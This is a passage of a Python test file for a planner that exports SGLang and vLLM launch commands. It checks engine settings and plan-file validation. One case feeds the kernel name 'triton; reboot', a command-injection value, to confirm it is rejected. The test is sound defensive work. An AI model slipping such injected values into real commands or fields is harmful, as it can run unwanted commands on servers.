                "search": {"gpus": ["mi300x"], "precisions": ["bf16"], "kv_dtypes": ["bf16"]}}
    told = load_plan(write_plan(tmp_path, {**scenario, "engine": {"name": "sglang", "attention_backend": "triton"}}),
                     CATALOG)
    assert told.configuration.engine.attention_backend == "triton"
    exported = export(told, "sglang")
    assert "aiter" not in exported
    [argv] = command_lines(exported, "python3 -m sglang.launch_server")
    assert flags_and_values(argv)["--attention-backend"] == "triton"
    budgets = [api.engine_estimate("llama-3.1-8b", EngineSettings("sglang", attention_backend=backend), context=32768,
                                   precision="bf16", kv_dtype="bf16", gpu="mi300x").engine.budget_bytes
               for backend in ("triton", None)]
    assert budgets[1] / budgets[0] == pytest.approx(0.85, abs=1e-6)


def test_an_sglang_plan_told_its_running_requests_is_planned_and_exported_with_them(tmp_path):
    """engine.max_running_requests: the plan file records it and the export tells the servers that number, not
    planner's own choice; a limit below the workload's sequences leaves no plan, and says so."""
    scenario = {"name": "told", "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 8},
                "search": {"gpus": ["h100-sxm"], "precisions": ["bf16"], "kv_dtypes": ["bf16"]},
                "engine": {"name": "sglang", "max_running_requests": 24}}
    told = load_plan(write_plan(tmp_path, scenario), CATALOG)
    assert told.configuration.engine.max_running_requests == 24
    [argv] = command_lines(export(told, "sglang"), "python3 -m sglang.launch_server")
    assert flags_and_values(argv)["--max-running-requests"] == "24"
    from planner.plan.planfile import EngineRecord

    record = json.loads((tmp_path / "plan.json").read_text())["best"]["engine"]
    record["max_running_requests"] = 24
    with pytest.raises(ValueError, match="SGLang's flag, not vllm's"):
        EngineRecord.model_validate({**record, "name": "vllm"})
    # told fewer than the workload's 8 sequences, no configuration fits, and the reason is the limit, not the memory
    result = solve({**scenario, "engine": {"name": "sglang", "max_running_requests": 4}})
    assert result.best is None
    assert "sglang runs at most 4 requests at once (max_running_requests), not 8" in result.infeasible.reason


@pytest.mark.parametrize("engine, needle", [
    ({"name": "vllm", "moe_kernel": "triton; reboot"}, "moe_kernel"),
    ({"name": "llamacpp", "moe_kernel": "triton"}, "llamacpp is not told which fused-MoE kernel to run"),
    ({"name": "vllm", "moe_kernel": "foo"}, "vLLM has no switch to 'foo'"),
    # the vLLM plan's own gpu_memory_utilization and block_size left out: SGLang reads neither, and a plan giving
    # them to it is refused
    ({"name": "sglang", "version": "0.5.23", "moe_kernel": "foo", "gpu_memory_utilization": None, "block_size": None},
     "no sglang table on blackwell GPUs times 'foo'"),
])
def test_a_plan_files_moe_kernel_is_checked_as_hostile_input(stated_kernel, tmp_path, engine, needle):
    """A kernel name is checked as the plan file loads, and again as the export re-times it: one the engine cannot be
    told, or no table times for the plan's experts, is refused before it reaches a command."""
    data = json.loads(stated_kernel.read_text())
    data["best"]["engine"] = {**data["best"]["engine"], **engine}
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data))
    with pytest.raises(PlannerInputError, match=needle):
        export(load_plan(path, CATALOG), engine["name"] if engine["name"] != "llamacpp" else "vllm")
